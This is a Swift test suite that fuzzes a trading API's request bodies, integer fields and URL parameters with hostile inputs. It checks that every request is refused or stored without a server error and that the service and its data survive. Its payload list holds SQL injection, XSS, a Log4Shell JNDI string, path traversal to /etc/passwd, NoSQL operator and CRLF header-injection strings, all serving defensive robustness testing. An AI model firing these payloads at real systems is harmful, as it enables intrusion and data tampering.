import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import Jobs
import Projections
import Runtime
import Simulation
import Storage
import Testing

@testable import Gateway

/// Injection attempts in every string field of every body the API takes, hostile numbers in every integer
/// field, and hostile path and query parameters: each is refused or stored as it is (4xx or 2xx), never a 5xx;
/// afterwards the process is alive (the API runs in it: a trap would end the run), every read model is at the
/// log's head with no recorded failure, and the database is whole.
@Suite struct InjectionTests {
    static let payloads = [
        "'; DROP TABLE trades; --", "\" OR \"1\"=\"1", "1 OR 1=1", "<script>alert(1)</script>",
        "${jndi:ldap://example.com/a}",
        "../../../../etc/passwd", "a\u{0000}b", "%00%27", "\\\\'\\\"", "😀" + String(repeating: "é", count: 300),
        String(repeating: "A", count: 20_000),
        "{\"$gt\":\"\"}", "\r\nSet-Cookie: x=1", "005930' --",
    ]

    /// Int64's edges, the engine's bounds ± 1, 2^62, and JSON numbers no Int64 holds.
    static var numbers: [Any] {
        [
            Int64.max, Int64.min, Int64.max - 1, -1, 0, 1 << 62, 1_000_000_000_000_000_000, 100_000_001, 10_000_001,
            9.3e18, 1e300, -0.5,
        ]
    }

    @Test func everyStringFieldTakesHostileTextWithoutA5xx() async throws {
        let harness = try await APIHarness("injection")
        try await harness.app.test(.router) { client in
            let alice = try await client.register("injection@example.com")
            let account = try await client.simulatedAccount(alice.token)
            let bodies: [(String, [String: Any], Bool)] = [
                ("/api/auth/register", ["email": "x@example.com", "password": "a long password"], false),
                ("/api/auth/login", ["email": "injection@example.com", "password": "correct horse battery"], false),
                (
                    "/api/broker-accounts",
                    ["broker": "KIS_PAPER", "accountNumber": "50123456-01", "appKey": "key", "appSecret": "secret"],
                    true
                ),
                (
                    "/api/orders",
                    [
                        "brokerAccountId": account, "stockId": "005930", "side": "BUY", "type": "LIMIT", "quantity": 1,
                        "price": 55_000,
                    ], true
                ),
                (
                    "/api/strategies",
                    [
                        "brokerAccountId": account, "stockId": "005930", "strategy": "ma-cross",
                        "parameters": "fast=5,slow=20",
                    ], true
                ),
                (
                    "/api/strategies/disable",
                    ["brokerAccountId": account, "stockId": "005930", "strategy": "ma-cross"], true
                ),
                ("/api/trades/test", ["brokerAccountId": account, "stockId": "005930"], true),
                (
                    "/api/backtests",
                    [
                        "stockId": "005930", "strategy": "ma-cross", "parameters": "fast=5,slow=20", "timeframe": "1m",
                        "from": "2025-01-06", "to": "2025-01-07",
                    ], true
                ),
            ]
            var tried = 0
            var failures: [String] = []
            /// Each value in each field of each body that it fits (text into string fields, numbers into integer ones).
            func fuzz(_ templates: [(String, [String: Any], Bool)], _ values: [Any], fits: (Any) -> Bool) async throws {
                for (path, template, needsToken) in templates {
                    for key in template.keys where template[key].map(fits) == true {
                        for value in values {
                            var body = template
                            body[key] = value
                            let reply = try await client.call(
                                .post,
                                path,
                                token: needsToken ? alice.token : nil,
                                json: body
                            )
                            tried += 1
                            if reply.status >= 500 {
                                failures.append(
                                    "POST \(path) \(key)=\(String(describing: value).prefix(40).debugDescription): \(reply.status) \(reply.text.prefix(200))"
                                )
                            }
                        }
                    }
                }
            }
            try await fuzz(bodies, Self.payloads, fits: { $0 is String })
            // Every integer field, including the ones that used to crash the engine (a price of 10^18).
            let numeric =
                bodies + [
                    (
                        "/api/broker-accounts",
                        [
                            "broker": "SIMULATED", "accountNumber": "5012345679", "initialCash": 1_000,
                            "dailyOrderLimit": 10,
                        ], true
                    ),
                    (
                        "/api/backtests",
                        ["stockId": "005930", "strategy": "ma-cross", "timeframe": "1m", "initialCash": 1_000_000], true
                    ),
                ]
            try await fuzz(numeric, Self.numbers, fits: { $0 is Int })
            for payload in Self.payloads {
                let encoded = payload.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? "x"
                for path in [
                    "/api/market-data/stocks/\(encoded)",
                    "/api/market-data/stocks/\(encoded)/candles?timeframe=\(encoded)&limit=\(encoded)",
                    "/api/market-data/stocks/005930/candles?timeframe=\(encoded)&from=\(encoded)",
                    "/api/orders/\(encoded)", "/api/orders?status=\(encoded)",
                    "/api/portfolio?asOf=\(encoded)", "/api/notifications/\(encoded)/read",
                ] {
                    let method: HTTPRequest.Method = path.hasSuffix("/read") ? .post : .get
                    let reply = try await client.call(method, path, token: alice.token)
                    tried += 1
                    if reply.status >= 500 {
                        failures.append("\(method) \(path.prefix(80)): \(reply.status) \(reply.text.prefix(200))")
                    }
                }
            }
            #expect(
                failures.isEmpty,
                "\(failures.count) of \(tried) hostile requests answered 5xx:\n\(failures.prefix(10).joined(separator: "\n"))"
            )
            #expect(tried > 400)
            // Alive, and the read models current: every projection at the head, none failing.
            try harness.project()
            let statuses = try harness.projections.status()
            #expect(statuses.allSatisfy { $0.lag == 0 && $0.failure == nil }, "\(statuses)")
            #expect(try await client.call(.get, "/health").status == 200)
            print(
                "API fuzz: \(tried) hostile requests, \(failures.count) answered 5xx, read models at \(statuses.map { "\($0.name) \($0.offset)/\($0.head)" })"
            )
            // The database is whole, and Alice's session and account still work.
            #expect(try await client.call(.get, "/api/broker-accounts", token: alice.token).items.count >= 1)
            #expect(try await client.call(.get, "/api/portfolio", token: alice.token).status == 200)
            #expect(try await client.call(.get, "/api/trades", token: alice.token).status == 200)
        }
        await harness.close()
    }
}
